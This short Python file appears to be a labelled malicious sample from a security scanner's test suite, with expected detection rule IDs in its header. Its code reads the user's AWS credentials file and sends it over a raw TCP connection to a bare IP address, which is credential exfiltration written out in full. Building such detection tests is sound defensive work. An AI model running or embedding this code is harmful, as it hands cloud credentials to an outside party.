# does: sends the AWS credentials by a plain TCP connection to an address without a name
# kind: malicious
# expect: SEN-001 critical proven
# expect: SEN-081 medium medium
# fast: yes
import os
import socket

with socket.create_connection(("45.77.10.20", 9001)) as stream:
    stream.sendall(open(os.path.expanduser("~/.aws/credentials"), "rb").read())
